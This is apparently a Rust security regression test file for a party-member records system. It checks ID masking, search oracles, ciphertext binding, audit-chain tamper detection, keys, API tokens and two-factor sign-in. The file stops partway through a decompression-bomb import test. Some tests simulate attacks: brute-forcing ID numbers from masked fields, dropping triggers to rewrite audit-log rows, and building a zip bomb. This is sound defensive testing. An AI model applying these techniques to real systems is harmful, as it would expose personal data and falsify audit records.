//! What a black-box assessment broke, each as a test that failed on the build it assessed:
//! ID numbers rebuilt from what roles see, exact-number search as an oracle, ciphertexts
//! copied between rows, a legacy database sealed and rebound, wrong and missing keys, the
//! audit log scoped to the auditor's subtree, the chain's state on the auditor's pages, and
//! the scheduler's leases.

use crate::support::*;
use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use dangjian::audit::VerifyOutcome;
use serde_json::{json, Value};

/// How many ID numbers agree with what one shown object tells about a person: the region
/// code, the birth date or month, the gender and the characters a mask leaves.
fn candidates(obj: &Value) -> usize {
    let mask = obj["id_number"].as_str().unwrap_or("");
    if mask.chars().count() != 18 {
        return usize::MAX;
    }
    let known: Vec<Option<char>> = mask.chars().map(|c| (c != '*').then_some(c)).collect();
    let Some(region) = obj["region_code"].as_str().filter(|r| r.len() == 6) else {
        return usize::MAX;
    };
    let days: Vec<chrono::NaiveDate> =
        match (obj["birth_date"].as_str(), obj["birth_month"].as_str()) {
            (Some(b), _) if b.len() == 10 => {
                vec![chrono::NaiveDate::parse_from_str(b, "%Y-%m-%d").expect("date")]
            }
            (_, Some(m)) | (Some(m), _) if m.len() == 7 => {
                let first = chrono::NaiveDate::parse_from_str(&format!("{m}-01"), "%Y-%m-%d")
                    .expect("month");
                (0..31)
                    .map(|i| first + chrono::Duration::days(i))
                    .filter(|d| d.format("%Y-%m").to_string() == m)
                    .collect()
            }
            _ => return usize::MAX,
        };
    let male = obj["gender"].as_str() == Some("M");
    let mut n = 0;
    for day in &days {
        for seq in 0..1000u16 {
            if (seq % 2 == 1) != male {
                continue;
            }
            let id = dangjian::member::idcard::compose(region, *day, seq, male);
            if id
                .chars()
                .zip(&known)
                .all(|(c, k)| k.is_none_or(|k| k == c))
            {
                n += 1;
            }
        }
    }
    n
}

/// Every member object in a JSON answer (lists, details, audit snapshots).
fn member_objects(v: &Value, out: &mut Vec<Value>) {
    match v {
        Value::Object(m) => {
            if m.contains_key("id_number") && m.contains_key("name") {
                out.push(v.clone());
            }
            for x in m.values() {
                if let Value::String(s) = x {
                    if let Ok(inner) = serde_json::from_str::<Value>(s) {
                        member_objects(&inner, out);
                    }
                }
                member_objects(x, out);
            }
        }
        Value::Array(a) => a.iter().for_each(|x| member_objects(x, out)),
        _ => {}
    }
}

#[tokio::test]
async fn an_id_number_cannot_be_rebuilt_from_what_anyone_sees() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let town = app.org(Some(city), "中共城关镇委员会", "committee", "township").await;
        let branch = app.org(Some(town), "东关村党支部", "branch", "village").await;
        let staff = app.account("dept", city, "org_staff", None).await;
        let mut births = Vec::new();
        // (none born on the 1st: a birth month is stored as its first day)
        for i in 0..6u16 {
            let mut input = member_input(branch, &format!("张{i}"), 702 + i);
            births.push(dangjian::member::idcard::parse(input.id_number.as_deref().expect("id")).expect("valid").birth_date);
            let m = ok(app.api(&staff, "POST", "/api/v1/members", Some(serde_json::to_value(&input).expect("json"))).await);
            input.work_unit = "改过的单位".into();
            input.version = Some(1);
            ok(app.api(&staff, "PUT", &format!("/api/v1/members/{}", m["id"]), Some(serde_json::to_value(&input).expect("json"))).await);
        }
        let secretary = app.account("sec", branch, "branch_secretary", None).await;
        let committee = app.account("town", town, "committee_staff", None).await;
        let auditor = app.account("aud", city, "audit_admin", None).await;
        let mut seen: Vec<Value> = Vec::new();
        for (who, paths) in [
            (&secretary, vec!["/api/v1/members?per_page=200".to_string()]),
            (&committee, vec!["/api/v1/members?per_page=200".to_string()]),
            (&staff, vec!["/api/v1/members?per_page=200".to_string()]),
            (&auditor, vec!["/api/v1/audit?limit=500".to_string()]),
        ] {
            for p in paths {
                let (s, v) = app.api(who, "GET", &p, None).await;
                assert_eq!(s, StatusCode::OK, "{p}: {v}");
                member_objects(&v, &mut seen);
            }
        }
        let ids: Vec<i64> = app.count("SELECT COUNT(*) AS n FROM members").await.max(0).try_into().map(|n: usize| (1..=n as i64).collect()).unwrap_or_default();
        for id in ids {
            for who in [&secretary, &committee] {
                let (_, v) = app.api(who, "GET", &format!("/api/v1/members/{id}"), None).await;
                member_objects(&v, &mut seen);
                let (_, v) = app.api(who, "GET", &format!("/api/v1/members/{id}/history"), None).await;
                member_objects(&v, &mut seen);
            }
        }
        assert!(seen.len() >= 30, "{} member objects seen", seen.len());
        for o in &seen {
            let n = candidates(o);
            assert!(n >= 100, "only {n} ID numbers fit what is shown: {o}");
        }
        // a key-less reader of the database file (or of every table on PostgreSQL) finds
        // neither the numbers nor the exact birth dates
        let mut hay: Vec<u8> = Vec::new();
        if app.is_sqlite() {
            app.exec("PRAGMA wal_checkpoint(PASSIVE)").await;
            for f in ["t.db", "t.db-wal"] {
                if let Ok(b) = std::fs::read(app.dir.path().join(f)) {
                    hay.extend(b);
                }
            }
        } else {
            let dump: Vec<String> = dangjian::on_db!(&app.ctx.db, p => {
                let mut out = Vec::new();
                for t in ["members", "audit_log"] {
                    let rows = sqlx::query(&format!("SELECT CAST(row_to_json(x) AS TEXT) AS j FROM {t} x")).fetch_all(p).await.expect("dump");
                    out.extend(rows.iter().map(|r| dangjian::db::DbRow::string(r, "j").expect("j")));
                }
                out
            });
            hay.extend(dump.join("\n").into_bytes());
        }
        for b in &births {
            for text in [b.format("%Y-%m-%d").to_string(), b.format("%Y%m%d").to_string()] {
                assert!(!hay.windows(text.len()).any(|w| w == text.as_bytes()), "birth date {text} stored in clear");
            }
        }
    })
    .await;
}

#[tokio::test]
async fn a_number_in_the_search_finds_nothing_unless_the_account_may_unmask() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let branch = app
            .org(Some(city), "东关村党支部", "branch", "village")
            .await;
        let input = member_input(branch, "李明", 801);
        let (id_number, phone) = (
            input.id_number.clone().expect("id"),
            input.phone.clone().expect("phone"),
        );
        app.member_with(input).await;
        let secretary = app.account("sec", branch, "branch_secretary", None).await;
        let staff = app.account("dept", city, "org_staff", None).await;
        for q in [&id_number, &phone] {
            let r = ok(app
                .api(&secretary, "GET", &format!("/api/v1/members?q={q}"), None)
                .await);
            assert_eq!(
                r["total"], 0,
                "a secretary's number search confirms nothing"
            );
            let r = ok(app
                .api(&staff, "GET", &format!("/api/v1/members?q={q}"), None)
                .await);
            assert_eq!(
                r["total"], 1,
                "the department (may unmask) finds the member"
            );
        }
        // audited without the number
        let logged = app
            .count("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'member.lookup'")
            .await;
        assert_eq!(logged, 2);
        let texts: Vec<String> = dangjian::audit::list(&app.ctx.db, &Default::default())
            .await
            .expect("log")
            .iter()
            .map(|e| e.after_json.clone())
            .collect();
        assert!(texts
            .iter()
            .all(|t| !t.contains(&id_number) && !t.contains(&phone)));
        // throttled: the 30th lookup of the window is the last
        for _ in 2..30 {
            ok(app
                .api(&staff, "GET", &format!("/api/v1/members?q={phone}"), None)
                .await);
        }
        let (s, e) = app
            .api(&staff, "GET", &format!("/api/v1/members?q={phone}"), None)
            .await;
        assert_eq!(s, StatusCode::TOO_MANY_REQUESTS, "{e}");
        // a name search is not a lookup and is not throttled; % and _ are literal
        ok(app.api(&staff, "GET", "/api/v1/members?q=lm", None).await);
        for q in ["%25", "_"] {
            let r = ok(app
                .api(&secretary, "GET", &format!("/api/v1/members?q={q}"), None)
                .await);
            assert_eq!(r["total"], 0, "{q} matches no name");
        }
    })
    .await;
}

#[tokio::test]
async fn a_ciphertext_copied_from_another_row_is_refused() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let branch = app.org(Some(city), "东关村党支部", "branch", "village").await;
        let a = app.member(branch, "甲", 811).await;
        let b = app.member(branch, "乙", 812).await;
        let staff = app.account("dept", city, "org_staff", None).await;
        let (_, shown_b) = app.api(&staff, "POST", &format!("/api/v1/members/{b}/unmask"), None).await;
        app.exec(&format!("UPDATE members SET id_enc = (SELECT id_enc FROM members WHERE id = {b}), phone_enc = (SELECT phone_enc FROM members WHERE id = {b}) WHERE id = {a}")).await;
        let (s, e) = app.api(&staff, "POST", &format!("/api/v1/members/{a}/unmask"), None).await;
        assert_eq!(s, StatusCode::INTERNAL_SERVER_ERROR, "{e}");
        assert!(!e.to_string().contains(shown_b["id_number"].as_str().expect("clear")), "never the other row's number");
    })
    .await;
}

/// A database written before keying, binding and the present masks (plain SM3 entries with
/// full birth dates and four-and-four masks, unbound ciphertexts) is sealed, rebound and
/// redacted at start; the chain still verifies, on the originals; a later edit of an old
/// entry is found.
#[tokio::test]
async fn a_legacy_database_is_sealed_rebound_and_redacted() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let branch = app.org(Some(city), "东关村党支部", "branch", "village").await;
        let m = app.member(branch, "王五", 821).await;
        let number = member_input(branch, "王五", 821).id_number.expect("id");
        let staff = app.account("dept", city, "org_staff", None).await;
        // make it look as it did before: unbound ciphertexts, a plain chain with the old JSON
        let legacy = app.ctx.vault.encrypt_legacy(number.as_bytes());
        dangjian::on_db!(&app.ctx.db, p => {
            sqlx::query("UPDATE members SET id_enc = $1 WHERE id = $2").bind(&legacy).bind(m).execute(p).await.expect("legacy");
        });
        if app.is_sqlite() {
            app.exec("DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete;").await;
        } else {
            app.exec("ALTER TABLE audit_log DISABLE TRIGGER USER").await;
        }
        app.exec("DELETE FROM audit_log; DELETE FROM audit_meta; DELETE FROM upgrades").await;
        let old_json = format!(r#"{{"birth_date":"1982-03-07","id_number":"{}","name":"王五","region_code":"370811"}}"#, format_args!("{}**********{}", &number[..4], &number[14..]));
        let mut prev = dangjian::audit::GENESIS.to_string();
        for seq in 1..=3i64 {
            let mut e = dangjian::audit::Entry {
                seq, prev_hash: prev.clone(), hash: String::new(), ts: "2025-05-01T08:00:00.000000Z".into(),
                actor_id: None, actor_name: "legacy".into(), role: "system".into(), org_id: None,
                action: "member.update".into(), object_type: "member".into(), object_id: m.to_string(),
                before_json: "null".into(), after_json: old_json.clone(), ip: String::new(),
            };
            e.hash = dangjian::audit::entry_hash(&e);
            dangjian::on_db!(&app.ctx.db, p => {
                sqlx::query("INSERT INTO audit_log (seq, prev_hash, hash, ts, actor_id, actor_name, role, org_id, action, object_type, object_id, before_json, after_json, ip) VALUES ($1,$2,$3,$4,$5,$6,$7,$8,$9,$10,$11,$12,$13,$14)")
                    .bind(e.seq).bind(&e.prev_hash).bind(&e.hash).bind(&e.ts).bind(e.actor_id).bind(&e.actor_name).bind(&e.role).bind(e.org_id)
                    .bind(&e.action).bind(&e.object_type).bind(&e.object_id).bind(&e.before_json).bind(&e.after_json).bind(&e.ip)
                    .execute(p).await.expect("legacy entry");
            });
            prev = e.hash;
        }
        app.exec(&format!("UPDATE audit_head SET seq = 3, hash = '{prev}', mac = ''")).await;
        if app.is_sqlite() {
            // one statement at a time: a second CREATE TRIGGER in one text re-ran the first
            app.exec("CREATE TRIGGER audit_log_no_update BEFORE UPDATE ON audit_log BEGIN SELECT RAISE(ABORT, 'audit_log is append-only'); END;").await;
            app.exec("CREATE TRIGGER audit_log_no_delete BEFORE DELETE ON audit_log BEGIN SELECT RAISE(ABORT, 'audit_log is append-only'); END;").await;
        } else {
            app.exec("ALTER TABLE audit_log ENABLE TRIGGER USER").await;
        }
        // the next start
        dangjian::upgrade::run(&app.ctx).await.expect("upgrade");
        let actions: Vec<String> = dangjian::audit::list(&app.ctx.db, &Default::default()).await.expect("log").into_iter().map(|e| e.action).collect();
        assert_eq!(app.verify().await, VerifyOutcome::Ok { entries: 6 }, "sealed (4), rebound (5), redacted (6)");
        assert_eq!(&actions[..3], ["audit.redact", "crypto.rebind", "audit.seal"]);
        let shown = dangjian::audit::history(&app.ctx.db, "member", &m.to_string()).await.expect("h");
        for e in shown.iter().filter(|e| e.seq <= 3) {
            assert!(e.after_json.contains(r#""birth_date":"1982-03""#), "{}", e.after_json);
            assert!(!e.after_json.contains("1982-03-07") && !e.after_json.contains(&number[14..]), "{}", e.after_json);
        }
        let (s, clear) = app.api(&staff, "POST", &format!("/api/v1/members/{m}/unmask"), None).await;
        assert_eq!((s, clear["id_number"].as_str()), (StatusCode::OK, Some(number.as_str())), "rebound and readable");
        // a start again changes nothing (7: the unmask)
        dangjian::upgrade::run(&app.ctx).await.expect("again");
        assert_eq!(app.verify().await, VerifyOutcome::Ok { entries: 7 });
        // an old entry's shown text edited later is found
        if app.is_sqlite() {
            app.exec("DROP TRIGGER audit_log_no_update").await;
        } else {
            app.exec("ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update").await;
        }
        app.exec("UPDATE audit_log SET after_json = replace(after_json, '王五', '赵六') WHERE seq = 2").await;
        if app.is_sqlite() {
            app.exec("CREATE TRIGGER audit_log_no_update BEFORE UPDATE ON audit_log BEGIN SELECT RAISE(ABORT, 'audit_log is append-only'); END;").await;
        } else {
            app.exec("ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update").await;
        }
        assert!(matches!(app.verify().await, VerifyOutcome::Broken { seq: 2, .. }));
    })
    .await;
}

#[tokio::test]
async fn a_wrong_or_missing_key_is_refused_and_files_are_private() {
    let app = TestApp::new(Backend::Sqlite).await;
    let root = app.org(None, "中共测试市委", "committee", "city").await;
    let b = app.org(Some(root), "甲村党支部", "branch", "village").await;
    app.member(b, "甲", 831).await;
    // a wrong key: refused at start, nothing written
    let before = app.count("SELECT COUNT(*) AS n FROM audit_log").await;
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_dangjian"))
        .args(["--database-url", &app.db_url, "audit", "verify"])
        .env("DANGJIAN_DATA_KEY", "ffeeddccbbaa99887766554433221100")
        .output()
        .expect("run");
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("does not match"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        app.count("SELECT COUNT(*) AS n FROM audit_log").await,
        before
    );
    // no key at all (no key file beside the database): refused, and no key file made
    let key_file = app.dir.path().join("t.db.key");
    assert!(!key_file.exists());
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_dangjian"))
        .args(["--database-url", &app.db_url, "migrate"])
        .env_remove("DANGJIAN_DATA_KEY")
        .output()
        .expect("run");
    assert!(
        !out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("is missing"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !key_file.exists(),
        "never a new key for a database that holds data"
    );
    // the database and its WAL are the owner's only; so is a backup
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let backup = app.dir.path().join("b.db");
        let out = cli(&app.db_url, &["backup", &backup.display().to_string()], &[]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        for f in ["t.db", "t.db-wal", "b.db"] {
            let p = app.dir.path().join(f);
            if p.exists() {
                let mode = std::fs::metadata(&p).expect("meta").permissions().mode() & 0o777;
                assert_eq!(mode, 0o600, "{f}");
            }
        }
    }
}

#[tokio::test]
async fn an_auditor_reads_the_log_of_its_subtree_and_sees_the_chain_state() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let county = app
            .org(Some(city), "中共甲县委", "committee", "county")
            .await;
        let other = app
            .org(Some(city), "中共乙县委", "committee", "county")
            .await;
        let ba = app
            .org(Some(county), "甲村党支部", "branch", "village")
            .await;
        let bb = app
            .org(Some(other), "乙村党支部", "branch", "village")
            .await;
        let in_a = app.account("deptA", county, "org_staff", None).await;
        let in_b = app.account("deptB", other, "org_staff", None).await;
        ok(app
            .api(
                &in_a,
                "POST",
                "/api/v1/members",
                Some(serde_json::to_value(member_input(ba, "甲", 841)).expect("json")),
            )
            .await);
        ok(app
            .api(
                &in_b,
                "POST",
                "/api/v1/members",
                Some(serde_json::to_value(member_input(bb, "乙", 842)).expect("json")),
            )
            .await);
        let county_auditor = app.account("audA", county, "audit_admin", None).await;
        let city_auditor = app.account("audC", city, "audit_admin", None).await;
        let entries = ok(app
            .api(
                &county_auditor,
                "GET",
                "/api/v1/audit?limit=500&action=member.create",
                None,
            )
            .await);
        let names: Vec<String> = entries
            .as_array()
            .expect("list")
            .iter()
            .map(|e| e["actor_name"].as_str().unwrap_or("").to_string())
            .collect();
        assert_eq!(
            names,
            vec!["deptA".to_string()],
            "only the county's entries"
        );
        let all = ok(app
            .api(
                &city_auditor,
                "GET",
                "/api/v1/audit?limit=500&action=member.create",
                None,
            )
            .await);
        assert_eq!(all.as_array().map(Vec::len), Some(2));
        // the chain's state on the auditor's home and log page; a verification is recorded
        let (sess, _) = app.browser("audC2", city, "audit_admin").await;
        let (_, _, home) = app.page(&sess, "GET", "/", None).await;
        assert!(home.contains("审计链尚未校验"), "before any verification");
        let csrf = app.csrf(&sess).await;
        let (s, h, _) = app
            .page(
                &sess,
                "POST",
                "/audit/verify",
                Some(&format!("_csrf={csrf}")),
            )
            .await;
        assert_eq!(s, StatusCode::SEE_OTHER);
        assert!(h
            .get("location")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .contains("ok=verified"));
        let (_, _, page) = app.page(&sess, "GET", "/audit", None).await;
        assert!(page.contains("审计链完整"), "{page}");
        // broken: loud on both pages
        if app.is_sqlite() {
            app.exec("DROP TRIGGER audit_log_no_update").await;
        } else {
            app.exec("ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update")
                .await;
        }
        let (s, _, _) = app
            .page(
                &sess,
                "POST",
                "/audit/verify",
                Some(&format!("_csrf={csrf}")),
            )
            .await;
        assert_eq!(s, StatusCode::SEE_OTHER);
        for path in ["/", "/audit"] {
            let (_, _, html) = app.page(&sess, "GET", path, None).await;
            assert!(
                html.contains("审计链已被破坏") && html.contains("role=\"alert\""),
                "{path}"
            );
        }
        let v = ok(app
            .api(&city_auditor, "GET", "/api/v1/audit/verify", None)
            .await);
        assert_eq!(v["ok"], false);
    })
    .await;
}

#[tokio::test]
async fn the_scheduler_runs_a_due_job_once_and_takes_over_a_dead_lease() {
    each_backend(|app| async move {
        dangjian::scheduler::register(&app.ctx).await.expect("register");
        let chain = |ran: &[(&str, Result<String, String>)]| ran.iter().filter(|r| r.0 == "audit.verify").count();
        // two processes tick at once: each job runs once (the chain's and the files')
        let (a, b) = tokio::join!(
            dangjian::scheduler::tick(&app.ctx, "process-a"),
            dangjian::scheduler::tick(&app.ctx, "process-b")
        );
        let (a, b) = (a.expect("a"), b.expect("b"));
        assert_eq!(chain(&a) + chain(&b), 1);
        // every job once: the chain's, the files', the obligations' generation and sweep
        assert_eq!(a.len() + b.len(), 5);
        assert_eq!(app.count("SELECT COUNT(*) AS n FROM audit_checks WHERE kind = 'chain'").await, 1);
        assert_eq!(app.count("SELECT COUNT(*) AS n FROM audit_checks WHERE kind = 'files'").await, 1);
        // not due again until its interval has passed (6 hours for the chain, 24 for files)
        assert!(dangjian::scheduler::tick(&app.ctx, "process-a").await.expect("tick").is_empty());
        app.ctx.clock.advance(chrono::Duration::hours(6));
        let ran = dangjian::scheduler::tick(&app.ctx, "process-a").await.expect("tick");
        assert_eq!(chain(&ran), 1);
        assert!(!ran.iter().any(|r| r.0 == "files.verify"), "files are due daily");
        // a process died holding the job: the lease blocks others until it ends
        app.ctx.clock.advance(chrono::Duration::hours(6));
        let now = app.ctx.clock.now();
        dangjian::on_db!(&app.ctx.db, p => {
            sqlx::query("UPDATE jobs SET lease_owner = 'dead', lease_until = $1 WHERE name = 'audit.verify'").bind(now + chrono::Duration::minutes(30)).execute(p).await.expect("lease");
        });
        assert_eq!(chain(&dangjian::scheduler::tick(&app.ctx, "process-b").await.expect("tick")), 0, "leased elsewhere");
        let job = |rows: &[dangjian::scheduler::JobRow]| rows.iter().find(|r| r.name == "audit.verify").cloned().expect("job");
        assert!(job(&dangjian::scheduler::list(&app.ctx).await.expect("list")).running);
        app.ctx.clock.advance(chrono::Duration::minutes(31));
        assert_eq!(chain(&dangjian::scheduler::tick(&app.ctx, "process-b").await.expect("tick")), 1, "taken over");
        let j = job(&dangjian::scheduler::list(&app.ctx).await.expect("list"));
        assert_eq!((j.runs, j.last_ok, j.running), (3, Some(true), false));
        assert_eq!(app.count("SELECT COUNT(*) AS n FROM audit_checks WHERE ok = TRUE AND kind = 'chain'").await, 3);
    })
    .await;
}

#[tokio::test]
async fn number_searches_leave_no_number_in_logs() {
    // the export's audit entry records its filter with a searched number masked
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let branch = app
            .org(Some(city), "东关村党支部", "branch", "village")
            .await;
        let input = member_input(branch, "李明", 851);
        let number = input.id_number.clone().expect("id");
        app.member_with(input).await;
        let staff = app.account("dept", city, "org_staff", None).await;
        let (s, _, _) = app
            .send(
                Request::builder()
                    .uri(format!("/api/v1/members/export?format=csv&q={number}"))
                    .header(header::AUTHORIZATION, format!("Bearer {staff}"))
                    .body(Body::empty())
                    .expect("req"),
            )
            .await;
        assert_eq!(s, StatusCode::OK);
        let log = serde_json::to_string(
            &dangjian::audit::list(&app.ctx.db, &Default::default())
                .await
                .expect("log"),
        )
        .expect("json");
        assert!(!log.contains(&number), "{log}");
        let _ = json!(null);
    })
    .await;
}

/// API tokens: revoked by a password change or a reset, held to the forced change, expiring,
/// scoped (a read token reads), and never managing tokens or passwords.
#[tokio::test]
async fn api_tokens_expire_carry_a_scope_and_manage_nothing() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let (session, csrf) = app.browser("dora", city, "org_staff").await;
        let make = |scope: &str, days: i64| {
            let app = &app;
            let (session, csrf) = (session.clone(), csrf.clone());
            let body = json!({"name": "脚本", "scope": scope, "days": days}).to_string();
            async move {
                let req = Request::builder()
                    .method("POST")
                    .uri("/api/v1/tokens")
                    .header(header::COOKIE, format!("dj_session={session}"))
                    .header("x-csrf-token", csrf)
                    .header(header::CONTENT_TYPE, "application/json")
                    .body(Body::from(body))
                    .expect("req");
                let (s, _, b) = app.send(req).await;
                assert_eq!(s, StatusCode::OK, "{}", String::from_utf8_lossy(&b));
                serde_json::from_slice::<Value>(&b).expect("json")["secret"]
                    .as_str()
                    .expect("secret")
                    .to_string()
            }
        };
        let rw = make("read_write", 30).await;
        let ro = make("read", 30).await;
        // a read token reads and writes nothing
        assert_eq!(
            app.api(&ro, "GET", "/api/v1/members", None).await.0,
            StatusCode::OK
        );
        refused(
            app.api(
                &ro,
                "POST",
                "/api/v1/orgs",
                Some(json!({"parent_id": city, "name": "x", "kind": "branch", "level": "village"})),
            )
            .await,
            "forbidden",
        );
        // no token makes tokens or changes a password
        refused(
            app.api(
                &rw,
                "POST",
                "/api/v1/tokens",
                Some(json!({"name": "再来一个"})),
            )
            .await,
            "forbidden",
        );
        refused(
            app.api(
                &rw,
                "POST",
                "/api/v1/auth/password",
                Some(json!({"old_password": "New@pass2026", "new_password": "Other#pass2026"})),
            )
            .await,
            "forbidden",
        );
        let (s, _, _) = app
            .send(
                Request::builder()
                    .method("POST")
                    .uri("/password")
                    .header(header::AUTHORIZATION, format!("Bearer {rw}"))
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .body(Body::from(
                        "old_password=x&new_password=y&confirm_password=y",
                    ))
                    .expect("req"),
            )
            .await;
        assert_eq!(s, StatusCode::FORBIDDEN);
        // tokens expire
        app.ctx.clock.advance_days(31);
        assert_eq!(
            app.api(&rw, "GET", "/api/v1/me", None).await.0,
            StatusCode::UNAUTHORIZED,
            "expired"
        );
        app.ctx.clock.advance_days(-31);
        assert_eq!(
            app.api(&rw, "GET", "/api/v1/me", None).await.0,
            StatusCode::OK
        );
        // bad scope or lifetime refused
        let bad = json!({"name": "x", "scope": "admin"}).to_string();
        let req = Request::builder()
            .method("POST")
            .uri("/api/v1/tokens")
            .header(header::COOKIE, format!("dj_session={session}"))
            .header("x-csrf-token", csrf.clone())
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(bad))
            .expect("req");
        assert_eq!(app.send(req).await.0, StatusCode::UNPROCESSABLE_ENTITY);
        // a password change ends every session and token, and renews the caller's session
        let form = format!(
            "_csrf={csrf}&old_password={}&new_password={}&confirm_password={}",
            urlencode("New@pass2026"),
            urlencode("Third#pass2026"),
            urlencode("Third#pass2026")
        );
        let (s, h, _) = app.page(&session, "POST", "/password", Some(&form)).await;
        assert_eq!(s, StatusCode::SEE_OTHER);
        let renewed = session_of(&h).expect("renewed");
        assert_ne!(renewed, session, "a new session id after the change");
        assert_eq!(
            app.api(&rw, "GET", "/api/v1/me", None).await.0,
            StatusCode::UNAUTHORIZED,
            "revoked by the change"
        );
        assert_eq!(
            app.page(&session, "GET", "/me", None).await.0,
            StatusCode::SEE_OTHER,
            "the old session is over"
        );
        assert_eq!(
            app.page(&renewed, "GET", "/me", None).await.0,
            StatusCode::OK
        );
        // no password of the last five again
        let csrf = app.csrf(&renewed).await;
        let form = format!(
            "_csrf={csrf}&old_password={}&new_password={}&confirm_password={}",
            urlencode("Third#pass2026"),
            urlencode("New@pass2026"),
            urlencode("New@pass2026")
        );
        let (s, _, html) = app.page(&renewed, "POST", "/password", Some(&form)).await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(html.contains("最近5次"), "{html}");
    })
    .await;
}

/// A new account signs in by JSON, replaces its one-time password and makes a token, without
/// any page; the forced change holds an API caller as it holds a browser.
#[tokio::test]
async fn an_api_client_signs_in_and_changes_its_first_password() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        app.fresh_account("newbie", city, "org_staff").await;
        let login = |u: &str, pw: &str| {
            let app = &app;
            let body = json!({"username": u, "password": pw});
            async move {
                let req = Request::builder()
                    .method("POST")
                    .uri("/api/v1/auth/login")
                    .header(header::CONTENT_TYPE, "application/json")
                    .body(Body::from(body.to_string()))
                    .expect("req");
                let (s, _, b) = app.send(req).await;
                (
                    s,
                    serde_json::from_slice::<Value>(&b).unwrap_or(Value::Null),
                )
            }
        };
        let (s, e) = login("newbie", "wrong").await;
        assert_eq!(
            (s, e["code"].as_str()),
            (StatusCode::UNAUTHORIZED, Some("auth.failed"))
        );
        let (s, ok1) = login("newbie", PASSWORD).await;
        assert_eq!(s, StatusCode::OK, "{ok1}");
        assert_eq!(ok1["must_change_password"], true);
        let session = ok1["session"].as_str().expect("session").to_string();
        refused(
            app.api(&session, "GET", "/api/v1/members", None).await,
            "auth.password_change_required",
        );
        let changed = ok(app
            .api(
                &session,
                "POST",
                "/api/v1/auth/password",
                Some(json!({"old_password": PASSWORD, "new_password": "Mine#pass2026"})),
            )
            .await);
        let session = changed["session"].as_str().expect("renewed").to_string();
        assert_eq!(
            app.api(&session, "GET", "/api/v1/members", None).await.0,
            StatusCode::OK
        );
        let t = ok(app
            .api(
                &session,
                "POST",
                "/api/v1/tokens",
                Some(json!({"name": "同步脚本", "scope": "read"})),
            )
            .await);
        let token = t["secret"].as_str().expect("secret").to_string();
        assert_eq!(
            app.api(&token, "GET", "/api/v1/me", None).await.0,
            StatusCode::OK
        );
        assert_eq!(
            app.api(&session, "POST", "/api/v1/auth/logout", None)
                .await
                .0,
            StatusCode::NO_CONTENT
        );
        assert_eq!(
            app.api(&session, "GET", "/api/v1/me", None).await.0,
            StatusCode::UNAUTHORIZED
        );
    })
    .await;
}

/// The second factor in a browser: the sign-in's second step carries the pending session's
/// CSRF token and completes; an administrator must enrol before anything else.
#[tokio::test]
async fn an_administrator_completes_the_second_step_in_a_browser() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        app.account("secops", city, "sec_admin", None).await;
        let session = app.login("secops", PASSWORD).await.expect("login");
        let (s, h, _) = app.page(&session, "GET", "/accounts", None).await;
        assert_eq!(
            (s, h.get("location").and_then(|v| v.to_str().ok())),
            (StatusCode::SEE_OTHER, Some("/login/totp"))
        );
        let (_, _, html) = app.page(&session, "GET", "/login/totp", None).await;
        assert!(
            html.contains("name=\"_csrf\" value=\"") && !html.contains("name=\"_csrf\" value=\"\""),
            "the form carries a token: {html}"
        );
        // a wrong code: refused; the right one: in
        let csrf = html
            .split("name=\"_csrf\" value=\"")
            .nth(1)
            .and_then(|r| r.split('"').next())
            .unwrap_or("")
            .to_string();
        let (s, _, _) = app
            .page(
                &session,
                "POST",
                "/login/totp",
                Some(&format!("_csrf={csrf}&code=000000")),
            )
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
        app.second_factor(&session, "secops").await;
        assert_eq!(
            app.page(&session, "GET", "/accounts", None).await.0,
            StatusCode::OK
        );
        // an administrator without the factor is sent to enrol (the default configuration)
        let id = app.fresh_account("sysops", city, "sys_admin").await;
        app.exec(&format!(
            "UPDATE accounts SET must_change_password = FALSE WHERE id = {id}"
        ))
        .await;
        let s2 = app.login("sysops", PASSWORD).await.expect("login");
        let (s, h, _) = app.page(&s2, "GET", "/orgs", None).await;
        assert_eq!(
            (s, h.get("location").and_then(|v| v.to_str().ok())),
            (StatusCode::SEE_OTHER, Some("/me/totp"))
        );
    })
    .await;
}

/// A workbook whose sheet is one enormous cell (a decompression bomb) is refused before it is
/// unpacked, and the server goes on; so is a file of too many rows or too long a cell.
#[tokio::test]
async fn an_import_bomb_is_refused_and_the_server_goes_on() {
    let app = TestApp::new(Backend::Sqlite).await;
    let root = app.org(None, "中共测试市委", "committee", "city").await;
    let (session, csrf) = app.browser("imp", root, "org_staff").await;
    // the template with its sheet replaced by 64 MB of one cell (a few hundred KB packed)
    let template = dangjian::member::io::template_xlsx().expect("template");
    let mut src = zip::ZipArchive::new(std::io::Cursor::new(template)).expect("zip");
